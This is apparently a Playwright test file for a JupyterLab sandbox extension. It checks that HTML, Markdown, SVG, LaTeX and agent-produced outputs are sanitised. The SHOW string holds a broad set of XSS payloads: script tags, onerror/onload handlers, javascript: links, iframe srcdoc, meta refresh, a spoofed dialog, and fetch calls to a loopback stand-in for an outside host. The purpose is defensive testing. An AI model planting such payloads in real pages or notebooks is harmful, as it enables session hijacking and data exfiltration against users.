"""What code in the sandbox shows, in a real JupyterLab: nothing of it acts on the page, whoever ran the code.

A script in a trusted notebook drives the person's whole server, and what a page loads from elsewhere carries data out
of a sandbox that has no network. So the page is asked, and a listener on loopback stands for "elsewhere".
"""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from playwright.async_api import expect

from browser.lab import Notebook, OpenNotebook

SHOW = """
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
from IPython.display import publish_display_data as publish

far = "http://127.0.0.1:%(port)d/"
do = f"window.pwned=1;document.title='pwned';fetch('{far}fetched')"
html = (
    f'<script>{do}</script><img src="x" onerror="{do}"><svg onload="{do}"><script>{do}</script></svg>'
    f'<a class="trap" href="javascript:{do}">click</a><iframe srcdoc="<script>parent.{do}</script>"></iframe>'
    f'<img src="{far}image"><link rel="stylesheet" href="{far}sheet"><style>@import "{far}import";</style>'
    f'<div style="background:url({far}background)">x</div><object data="{far}object"></object>'
    f'<embed src="{far}embed"><video poster="{far}poster" src="{far}video"></video><body onpageshow="{do}">'
    f'<details open ontoggle="{do}">d</details><input autofocus onfocus="{do}"><base href="{far}">'
    f'<meta http-equiv="refresh" content="0;url={far}refresh"><form action="{far}form"><button>b</button></form>'
    f'<div class="jp-Dialog" id="main">cover</div>'
    f'<a class="trap" data-commandlinker-command="notebook:run-cell" href="#">command</a>'
)
display(HTML(html + "<b>html is shown</b>"))
display(Markdown(html + f"\\n\\n[trap](javascript:{do}) ![x]({far}markdown)\\n\\n**markdown is shown**"))
head = '<svg xmlns="http://www.w3.org/2000/svg"'
svg = f'{head} onload="{do}"><script>{do}</script><text y="20">svg is shown</text></svg>'
display(SVG(svg))
display(Latex(r"$\\href{javascript:window.pwned=1}{latex\\ is\\ shown}$" + html))
display(Javascript(do))
publish({"application/vnd.vegalite.v5+json": {"data": {"url": far + "vega"}, "mark": "point", "encoding": {}}})
publish({"text/html": html, "text/plain": "x"}, metadata={"text/html": {"isolated": True}})
print(html, "text is shown")
"""
AGENT = """
from cellwright.agent import CodeAgent
from cellwright.models.scripted import ScriptedModel
from cellwright_extension.widget import RunView, display_view, finish

fence = "`" * 3
first = f"{html}\\n{fence}python\\n{show}\\n{fence}"
last = f"Done.\\n{fence}python\\nfinal_answer(HTML(html + '<b>answered</b>'))\\n{fence}"
model = ScriptedModel(first, last)
view = RunView()
shown = display_view(view)
agent = CodeAgent(model, listeners=[view.take], journal=None, guards=[])
await agent.run("Show it.")
await agent.close()
%(after)s
"""
TRAP = re.compile(r"^\s*(click|trap|command)\s*$")
SHOWN = ("html is shown", "markdown is shown", "text is shown")


@dataclass
class Elsewhere:
    """A server that notes what it is asked for."""

    port: int = 0
    asked: list[str] = field(default_factory=list)

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.asked.append((await reader.readline()).decode(errors="replace"))
        writer.write(b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()


@pytest_asyncio.fixture(loop_scope="session")
async def elsewhere() -> AsyncIterator[Elsewhere]:
    found = Elsewhere()
    server = await asyncio.start_server(found.answer, "127.0.0.1", 0)
    found.port = server.sockets[0].getsockname()[1]
    yield found
    server.close()


async def check(page: Notebook, index: int, elsewhere: Elsewhere) -> None:
    """Nothing has acted, nor does it when every trap is clicked."""
    output = page.output(index)
    for trap in await output.locator("a").filter(has_text=TRAP).all():
        await trap.click(force=True, timeout=2_000)
    await page.page.wait_for_timeout(1_000)
    assert await page.page.evaluate("window.pwned") is None
    assert "pwned" not in await page.page.title()
    assert elsewhere.asked == []
    harmful = "script, iframe, object, embed, form, base, meta, link, style, [srcdoc], .jp-Dialog, #main"
    assert await output.locator(":is(.jp-RenderedHTMLCommon, .jp-RenderedSVG, .cw-rich)").locator(harmful).count() == 0
    assert (
        await output.locator('[href^="javascript" i], [data-commandlinker-command], [onerror], [onload]').count() == 0
    )
    assert page.errors == []


async def test_the_payloads_would_act_if_they_were_let_through(notebook: OpenNotebook, elsewhere: Elsewhere) -> None:
    """The other tests could not fail otherwise: the same cell in a kernel that relays all it is given."""
    page = await notebook([SHOW % {"port": elsewhere.port}])
    await page.run(0)
    await page.page.wait_for_function("window.pwned === 1")
    await page.page.wait_for_timeout(500)
    assert any("fetched" in line for line in elsewhere.asked)
    assert any("image" in line for line in elsewhere.asked)


async def test_a_cell_run_by_hand_in_the_sandbox(notebook: OpenNotebook, elsewhere: Elsewhere) -> None:
    page = await notebook(["%%py\n" + SHOW % {"port": elsewhere.port}], kernel="cellwright")
    await page.run(0, seconds=120)
    for text in SHOWN:
        await expect(page.output(0).get_by_text(text).last).to_be_visible()
    await page.screenshot("sanitised-by-hand")
    await check(page, 0, elsewhere)


@pytest.mark.parametrize("after", ["", "finish(shown, view.run)"], ids=["live", "finished"])
async def test_a_step_of_the_agent_in_its_view(notebook: OpenNotebook, elsewhere: Elsewhere, after: str) -> None:
    show = SHOW % {"port": elsewhere.port}
    setup = f"show = {show!r}\nhtml = '<script>window.pwned=1</script><img src=x onerror=\"window.pwned=1\">'"
    page = await notebook([setup, AGENT % {"after": after}])
    await page.run(0)
    await page.run(1, seconds=120)
    for step in await page.output(1).locator("details:not([open]) > summary").all():
        await step.click()
    for text in (*SHOWN, "answered"):
        await expect(page.output(1).get_by_text(text).last).to_be_attached()
    await page.screenshot(f"sanitised-step-{'finished' if after else 'live'}")
    await check(page, 1, elsewhere)
